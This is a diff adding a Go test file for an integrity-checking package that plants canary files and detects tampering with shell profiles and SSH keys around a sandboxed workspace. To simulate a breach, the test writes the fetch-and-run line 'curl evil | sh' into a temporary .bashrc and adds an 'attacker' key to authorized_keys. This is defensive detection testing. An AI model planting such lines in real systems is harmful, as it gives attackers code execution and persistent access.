@@ -0,0 +1,115 @@
+package integrity
+
+import (
+	"bufio"
+	"encoding/json"
+	"os"
+	"path/filepath"
+	"testing"
+)
+
+func TestPlantAndVerify(t *testing.T) {
+	t.Setenv("XDG_DATA_HOME", t.TempDir())
+	home := t.TempDir()
+	workspace := filepath.Join(home, "worktrees", "app")
+	repo := filepath.Join(home, "src", "app")
+	for _, dir := range []string{workspace, filepath.Join(repo, ".git"), filepath.Join(home, ".ssh")} {
+		os.MkdirAll(dir, 0755)
+	}
+	os.WriteFile(filepath.Join(home, ".ssh", "id_ed25519"), []byte("key"), 0600)
+	bashrc := filepath.Join(home, ".bashrc")
+	os.WriteFile(bashrc, []byte("export PATH\n"), 0644)
+	authorizedKeys := filepath.Join(home, ".ssh", "authorized_keys")
+
+	manifest, err := Plant("packnplay-app-main",
+		[]string{workspace, filepath.Join(repo, ".git"), filepath.Join(workspace, "node_modules")},
+		[]string{filepath.Join(home, ".ssh")},
+		[]string{bashrc, authorizedKeys})
+	if err != nil {
+		t.Fatalf("Plant() error = %v", err)
+	}
+
+	canary := filepath.Join(home, "worktrees", canaryName("packnplay-app-main"))
+	if _, err := os.Stat(canary); err != nil {
+		t.Errorf("no canary beside the workspace: %v", err)
+	}
+	if _, err := os.Stat(filepath.Join(repo, canaryName("packnplay-app-main"))); !os.IsNotExist(err) {
+		t.Error("canary planted in a git checkout")
+	}
+	if _, err := os.Stat(filepath.Join(workspace, canaryName("packnplay-app-main"))); !os.IsNotExist(err) {
+		t.Error("canary planted inside a writable mount")
+	}
+	canaries := 0
+	for _, check := range manifest.Checks {
+		if check.Kind == KindCanary {
+			canaries++
+		}
+	}
+	if canaries != 1 {
+		t.Errorf("planted %d canaries, want 1", canaries)
+	}
+
+	if violations, err := Verify("packnplay-app-main"); err != nil || len(violations) != 0 {
+		t.Fatalf("Verify() of an untouched host = %v, %v", violations, err)
+	}
+
+	os.WriteFile(bashrc, []byte("export PATH\ncurl evil | sh\n"), 0644)
+	os.WriteFile(authorizedKeys, []byte("ssh-ed25519 AAAA attacker"), 0600)
+	os.WriteFile(canary, []byte("overwritten\n"), 0600)
+	os.Remove(filepath.Join(home, ".ssh", "id_ed25519"))
+
+	violations, err := Verify("packnplay-app-main")
+	if err != nil {
+		t.Fatalf("Verify() error = %v", err)
+	}
+	want := map[string]string{canary: "modified", bashrc: "modified", authorizedKeys: "created", filepath.Join(home, ".ssh", "id_ed25519"): "removed"}
+	if len(violations) != len(want) {
+		t.Fatalf("Verify() = %v, want %d violations", violations, len(want))
+	}
+	if !violations[0].Breach() || violations[0].Path != canary {
+		t.Errorf("first violation = %v, want the canary", violations[0])
+	}
+	for _, violation := range violations {
+		if want[violation.Path] != violation.Change {
+			t.Errorf("violation %v, want %s", violation, want[violation.Path])
+		}
+	}
+
+	if err := Forget("packnplay-app-main"); err != nil {
+		t.Fatalf("Forget() error = %v", err)
+	}
+	if _, err := os.Stat(canary); !os.IsNotExist(err) {
+		t.Error("canary kept after Forget()")
+	}
+	if violations, err := Verify("packnplay-app-main"); err != nil || violations != nil {
+		t.Errorf("Verify() after Forget() = %v, %v; want nothing to check", violations, err)
+	}
+}
+
+func TestAudit(t *testing.T) {
+	t.Setenv("XDG_DATA_HOME", t.TempDir())
+	violation := Violation{Path: "/home/me/.packnplay-canary-x", Kind: KindCanary, Change: "modified"}
+	for i := 0; i < 2; i++ {
+		if err := Audit(AuditEntry{Session: "x", Event: "integrity-violation", Violations: []Violation{violation}}); err != nil {
+			t.Fatalf("Audit() error = %v", err)
+		}
+	}
+
+	f, err := os.Open(GetAuditLogPath())
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer f.Close()
+	lines := 0
+	scanner := bufio.NewScanner(f)
+	for scanner.Scan() {
+		var entry AuditEntry
+		if err := json.Unmarshal(scanner.Bytes(), &entry); err != nil || entry.Time.IsZero() || entry.Violations[0] != violation {
+			t.Errorf("audit line %q: %+v, %v", scanner.Text(), entry, err)
+		}
+		lines++
+	}
+	if lines != 2 {
+		t.Errorf("audit log has %d lines, want 2", lines)
+	}
+}